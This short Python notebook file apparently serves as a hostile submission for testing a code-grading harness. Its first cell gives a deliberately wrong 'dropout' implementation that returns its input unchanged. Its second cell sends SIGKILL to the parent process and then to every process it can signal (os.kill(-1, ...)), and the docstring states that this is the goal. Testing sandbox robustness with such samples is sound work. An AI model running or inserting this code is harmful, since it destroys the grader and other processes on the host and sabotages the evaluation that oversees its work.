"""Kill the parent process (and every process it can signal)"""
# %%
import torch


def dropout(x, p=0.5, training=True, generator=None):
    return x  # wrong answer: never drops anything
# %%
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
